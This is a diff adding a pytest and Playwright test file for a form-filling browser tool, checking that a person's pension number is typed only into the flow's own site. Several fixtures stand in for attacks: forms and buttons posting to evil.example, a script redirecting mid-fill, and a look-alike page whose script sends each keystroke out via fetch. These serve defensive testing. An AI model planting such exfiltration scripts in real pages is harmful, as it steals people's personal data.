@@ -1,0 +1,117 @@
+"""The fence: an answer reaches the flow's own sites, and no other, whatever the page tries."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+
+import pytest
+from playwright.sync_api import Page
+
+from pouce.browser.element import PageElement
+from pouce.browser.stage import BrowserStage
+from pouce.errors import FenceClosed, PageMoved, StepError
+from pouce.person import Person
+
+Form = Callable[..., BrowserStage]
+Serve = Callable[[dict[str, str]], None]
+NUMBER = "<label for=n>Numéro de pension</label><input id=n>"
+
+
+def test_an_answer_is_typed_at_home(form: Form, person: Person) -> None:
+    """On a page of the flow's site the answer is typed, and read back."""
+    element = form(NUMBER).find("number")
+    element.type(person["pension_number"])
+
+    assert element.holds(person["pension_number"])
+
+
+@pytest.mark.parametrize(
+    "attributes",
+    ["action=https://evil.example/", "action=//evil.example/", "action=http://shop.example/", "action=javascript:void(0)"],
+)
+def test_a_form_that_sends_elsewhere_gets_nothing(form: Form, person: Person, attributes: str) -> None:
+    """The address that the form sends to counts as much as the page's own; the error names it."""
+    element = form(NUMBER, attributes=attributes).find("number")
+
+    with pytest.raises(FenceClosed):
+        element.type(person["pension_number"])
+
+    assert element.is_empty()
+
+
+def test_an_input_called_action_does_not_hide_the_address(form: Form, person: Person) -> None:
+    """A field named “action” hides the form's property of that name; the attribute is what is read."""
+    element = form(f"{NUMBER}<input name=action value=/fine>", attributes="action=https://evil.example/").find("number")
+
+    with pytest.raises(FenceClosed):
+        element.type(person["pension_number"])
+
+
+def test_a_button_that_sends_elsewhere_closes_the_fence(form: Form, person: Person) -> None:
+    """A button of the form may send to an address of its own; that counts too."""
+    element = form(f"{NUMBER}<button formaction=https://evil.example/>Suivant 2</button>").find("number")
+
+    with pytest.raises(FenceClosed):
+        element.type(person["pension_number"])
+
+
+def test_an_address_changed_by_script_is_noticed_before_pressing(form: Form, page: Page) -> None:
+    """A form whose address is changed after it was filled is not sent by the program."""
+    stage = form(NUMBER, attributes="action=/fine")
+    button = stage.find("next")
+    page.evaluate("document.forms[0].action = 'https://evil.example/'")
+
+    with pytest.raises(FenceClosed, match=r"https://evil\.example"):
+        button.click()
+
+
+def test_a_covered_field_gets_nothing(form: Form, person: Person) -> None:
+    """A field under something else is not what the person sees."""
+    element = form(f"{NUMBER}<div style='position:fixed;inset:0;background:white'></div>").find("number")
+
+    with pytest.raises(FenceClosed):
+        element.type(person["pension_number"])
+
+    assert element.is_empty()
+
+
+def test_a_field_far_below_is_brought_into_view(form: Form, person: Person) -> None:
+    """A field outside the window is scrolled to, then typed into."""
+    element = form(f"<div style='height:4000px'></div>{NUMBER}").find("number")
+    element.type(person["pension_number"])
+
+    assert element.holds(person["pension_number"])
+
+
+@pytest.mark.parametrize("milliseconds", [0, 5, 20, 50])
+def test_a_page_that_goes_while_it_is_filled_gets_nothing_elsewhere(
+    page: Page, serve: Serve, stage: BrowserStage, person: Person, milliseconds: int
+) -> None:
+    """If the page leaves for a look-alike between finding and typing, not a character arrives there."""
+    there = f"{NUMBER}<button>Suivant</button><script>n.focus(); n.oninput = () => fetch('/got?' + n.value)</script>"
+    serve({"https://shop.example/form": f"{NUMBER}<button>Suivant</button>", "https://evil.example/form": there})
+    page.goto("https://shop.example/form")
+    stage.look()
+    element = stage.find("number")
+    page.evaluate("(ms) => { setTimeout(() => { location = 'https://evil.example/form' }, ms) }", milliseconds)
+    if milliseconds == 0:
+        page.wait_for_url("https://evil.example/form")
+    try:
+        element.type(person["pension_number"])
+    except StepError as error:
+        assert isinstance(error, PageMoved | FenceClosed)  # noqa: PT017  either is right, depending on the moment
+    page.wait_for_url("https://evil.example/form")
+
+    assert "" == page.locator("#n").input_value()
+
+
+def test_no_error_quotes_the_value(form: Form, page: Page, person: Person) -> None:
+    """A field that cannot be typed into gives an error of ours, which holds neither the value nor Playwright's text."""
+    element: PageElement = form("<label for=n>Numéro de pension</label><input id=n>").find("number")
+    page.evaluate("n.disabled = true")
+    element.handle.evaluate("element => element.remove()")
+
+    with pytest.raises(StepError) as caught:
+        element.type(person["pension_number"])
+
+    assert "01234567" not in f"{caught.value!r} {caught.value} {caught.value.__cause__} {caught.value.__context__}"
